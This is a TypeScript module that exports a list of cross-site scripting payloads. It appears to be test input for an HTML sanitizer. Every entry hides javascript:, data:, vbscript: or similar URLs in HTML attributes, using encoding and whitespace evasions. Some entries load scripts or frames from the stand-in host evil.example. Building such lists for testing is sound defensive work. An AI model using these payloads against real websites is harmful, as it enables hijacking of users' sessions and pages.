import { inBase64, inHexMarks, inMarks, link, run } from './xss-code.ts';

const blanks = ['', ' ', '\t', '\n', '\r', '\f', '\u0001', '\u001F', '\u00A0', '\u2003', '\uFEFF', '\u3000'];
const places: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<form><button formaction="${address}">x</button></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<img src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  (address) => `<svg><use href="${address}"></use></svg>`,
  (address) => `<math href="${address}"><mi>x</mi></math>`,
  (address) => `<base href="${address}/">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<area href="${address}">`,
  (address) => `<link rel=import href="${address}">`,
  (address) => `<video src="${address}" poster="${address}"></video>`,
  (address) => `<table background="${address}"><tr><td background="${address}">x</table>`,
];

/** Scripts as addresses, in every attribute that takes one. */
export const addresses = [
  ...places.map((place) => place(link)),
  ...places.map((place) => place(`data:text/html;base64,${inBase64}`)),
  ...blanks.map((blank) => `<a href="${blank}${link}">x</a>`),
  ...['\t', '\n', '\r', '&Tab;', '&NewLine;', '&#9;', '&#x0A;', '&#13;'].map(
    (gap) => `<a href="java${gap}script${gap}:${run}">x</a>`,
  ),
  ...['JAVASCRIPT:', 'JaVaScRiPt:', 'javascript&colon;', 'javascript&#58;', 'javascript&#x3A;', 'javascript&#0000058'].map(
    (scheme) => `<a href="${scheme}${run}">x</a>`,
  ),
  ...['vbscript:', 'livescript:', 'mocha:', 'view-source:javascript:', 'feed:javascript:', 'blob:', 'filesystem:', 'jar:'].map(
    (scheme) => `<a href="${scheme}${run}">x</a>`,
  ),
  `<a href="${inMarks}">x</a>`,
  `<a href="${inHexMarks}">x</a>`,
  `<a href='javascript://example.org/%0A${run}'>x</a>`,
  `<a href="javascript://%E2%80%A8${run}">x</a>`,
  `<a href=" &#14; ${link}">x</a>`,
  `<a href="data:text/html,<script>opener.broken=1</script>" target=x>x</a>`,
  `<a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.broken=1'/>">x</a>`,
  `<a href="//javascript:${run}">x</a>`,
  `<a href="https:javascript:${run}">x</a>`,
  `<a href=x ping="${link}">x</a>`,
  `<iframe srcdoc="<script>parent.broken=1</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.broken=1&gt;"></iframe>`,
  `<iframe src="https://www.youtube.com.evil.example/"></iframe>`,
  `<iframe src="https://www.youtube.com@evil.example/"></iframe>`,
  `<iframe src="\\\\evil.example/"></iframe>`,
  `<iframe src="/admin" onload=${run}></iframe>`,
  `<iframe name="<img src=x onerror=${run}>" src="about:blank"></iframe>`,
  `<meta http-equiv="refresh" content="0; ${link}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${run}</script>`,
  `<base href="https://evil.example/"><script src="a.js"></script>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(${link})}">`,
  `<link rel=modulepreload href=x onerror=${run}>`,
  `[x](${link})`,
  link,
];

